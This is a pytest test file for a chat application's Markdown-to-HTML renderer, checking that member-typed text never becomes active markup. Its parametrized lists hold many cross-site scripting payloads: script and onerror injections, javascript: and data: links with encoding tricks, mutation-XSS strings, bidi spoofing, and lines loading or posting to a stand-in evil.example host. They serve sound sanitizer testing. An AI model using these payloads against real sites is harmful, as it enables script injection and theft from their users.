"""Nothing that a member types becomes anything but text, links and formatting in another's page."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat import markup

EVIL_NAME = '"><img src=x onerror=alert(1)>\u202e&lt;b&gt;'
HANDLES = {"ada": (7, "Ada"), "evil": (666, EVIL_NAME)}
PICTURES = {"party": "/emoji/party.webp", "b": "/emoji/b.webp"}
OF_PICTURES = {"class": {"emoji"}, "src": set(PICTURES.values())}
VOID = {"br", "hr", "img"}
CLASSES = {
    "span": re.compile(r"mention|[a-z][a-z0-9]{0,3}"),  # Pygments' are short
    "pre": re.compile("highlight"),
    "code": re.compile(r"language-\S+"),
}
CONTROL = re.compile("[\x00-\x20\x7f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


class Judge(HTMLParser):
    """Walks through the HTML of a message and objects to all that must not be there."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.open = []
        self.tags = []
        self.links = []
        self.text = ""

    def handle_starttag(self, tag, attrs):
        assert tag in markup.TAGS, f"<{tag}>"
        self.tags.append(tag)
        names = [name for name, _ in attrs]
        assert len(set(names)) == len(names)
        for name, value in attrs:
            self.check_attribute(tag, name, value or "")
        if "data-user" in names:
            assert tag == "span"
            assert dict(attrs)["class"] == "mention"
        if tag not in VOID:
            self.open.append(tag)

    def check_attribute(self, tag, name, value):
        if tag == "a" and name == "rel":
            assert value == markup.LINK_REL
            return
        if tag == "img" and name in OF_PICTURES:
            assert value in OF_PICTURES[name], value
            return
        assert name in markup.ATTRIBUTES.get(tag, ()), f"<{tag} {name}>"
        if name == "href":
            self.links.append(value)
            assert not CONTROL.search(value), f"{value!r} hides where it leads"
            assert urlsplit(value).scheme in markup.SCHEMES | {""}, value
        elif name == "class":
            assert CLASSES[tag].fullmatch(value), f"<{tag} class={value!r}>"
        elif name == "data-user":
            assert value in ("7", "666")

    def handle_endtag(self, tag):
        assert self.open, f"</{tag}> closes what is not open"
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        raise AssertionError(f"<!--{data}-->")

    def handle_decl(self, decl):
        raise AssertionError(f"<!{decl}>")

    def handle_pi(self, data):
        raise AssertionError(f"<?{data}>")

    def unknown_decl(self, data):
        raise AssertionError(f"<![{data}]>")


def judged(body):
    """Return the judge of the HTML of ``body``, which had nothing to object to."""
    html, _ = markup.render(body, HANDLES, pictures=PICTURES)
    judge = Judge()
    judge.feed(html)
    judge.close()
    assert judge.open == []
    # Parsed anew as browsers parse it, it is the same: nothing in it turns into something else.
    again = nh3.clean(
        html,
        tags=markup.TAGS,
        attributes=markup.ATTRIBUTES,
        url_schemes=markup.SCHEMES,
        link_rel=markup.LINK_REL,
        tag_attribute_values={"img": OF_PICTURES},
    )
    assert again == html
    return judge


HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=1&gt;\">",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{display:none}</style>",
    '<div style="position:fixed;inset:0">',
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=x>-->",
    "<!DOCTYPE html>",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<span class="mention" data-user="7">@Ada</span>',
    '<img class="emoji" src="/emoji/party.webp" onload=alert(1)>',
    '<img class="emoji" src="//evil.example/party.webp">',
    "</p></div></body><script>alert(1)</script>",
    "<p\x00onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onmouseover="alert(1)\nx\n```',
    "```&quot;&gt;&lt;script&gt;\nx\n```",
    "```x&nbsp;mention&#32;highlight\nx\n```",
    "~~~ mention highlight\nx\n~~~",
    "a|b\n-|-\n<script>alert(1)</script>|<img src=x onerror=alert(1)>",
    "a|b\n:-|-:\n1|2",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "**<script>alert(1)</script>**",
    "@ada<script>alert(1)</script>",
    "@evil",
    "**@evil** [@evil](https://a.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<https://a.example/\"onmouseover=alert(1)>",
]  # fmt: skip

LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](\\javascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](view-source:https://a.example)",
    "[x](intent://a.example#Intent;end)",
    "[x](ftp://a.example/)",
    "[x](about:blank)",
    "[x](feed:javascript:alert(1))",
    "[x](ｊavascript:alert(1))",
    "[x](javascript\u200b:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    "[x](https://a.example 'title\" onmouseover=\"alert(1)')",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'onmouseover='alert(1))",
    "[x](<https://a.example/ onmouseover=alert(1)>)",
    "[x][y]\n\n[y]: <javascript:alert(1)>",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/<script>alert(1)</script>",
    "www.a.example/`<img src=x onerror=alert(1)>`",
    "javascript://a.example/%0Aalert(1)",
    "mailto:a@b.example?subject=<script>",
]

BIDI = [
    "\u202e evil \u202c",
    "\u2066\u2067 never closed",
    "https://a.example/\u202egpj.exe",
    "[photo.jpg](https://a.example/\u202egpj.exe)",
    "<https://a.example/\u2066x>",
    "[x](https://a.example/\u200fx)",
    "\u202e**bold** `code` @ada",
]


@pytest.mark.parametrize("body", HTML)
def test_html_that_was_typed_is_text(body):
    judge = judged(body)
    assert not {"script", "img", "svg", "style", "form", "iframe"} & set(judge.tags)


@pytest.mark.parametrize(
    "body",
    [
        ":party:<img src=x onerror=alert(1)>:b:",
        "[:party:](javascript:alert(1)) ![:b:](//evil.example/x.png)",
        '`:party:` :party":b: :<b>:',
    ],
)
def test_an_emoji_is_the_only_picture_there_is(body):
    judge = judged(body)
    assert judge.tags.count("img") <= 2


@pytest.mark.parametrize("body", LINKS)
def test_a_link_leads_to_the_web_or_a_letter_or_nowhere(body):
    judged(body)


@pytest.mark.parametrize("body", BIDI)
def test_marks_that_turn_text_around_stay_text_and_turn_no_address(body):
    judge = judged(body)
    assert all(link == link.encode("ascii", "replace").decode() for link in judge.links)


@pytest.mark.parametrize(
    "body", ["https://a.example/b", "http://a.example", "[x](mailto:a@b.example)", "[x](/rooms/)"]
)
def test_links_that_are_none_of_that_still_lead_somewhere(body):
    assert len(judged(body).links) == 1


def test_whatever_a_member_is_called_is_text():
    judge = judged("hi @evil")
    assert judge.text == f"hi @{EVIL_NAME}"
    assert judge.tags == ["p", "span"]


dangerous = st.sampled_from(
    ["<", ">", '"', "'", "`", "```", "\n", "[", "](", ")", "!", "|", "-|-\n", "*", "_", "~~", "\\",
     "&", "&#", "x3c;", ";", "javascript:", "data:", "https://", "a.example", "www.", "//", "/",
     "script", "<script>", "</p>", "<!--", "-->", "<a href=", " onerror=", "=", ":", "@ada",
     "\x00", "\t", "\r", "\x0b", "\x0c", "\u2028", "\u202e", "\ufeff", " ", "    ", "> ", "- ", "#",
     "[x]: ", "@evil", "<svg>", "<math>", "</title>", "]]>", "html", "&Tab;", "&colon;", "1. "]
)  # fmt: skip


@given(st.lists(dangerous | st.text(max_size=4), max_size=25).map("".join))
def test_no_mixture_of_dangerous_pieces_is_dangerous(body):
    judged(body)
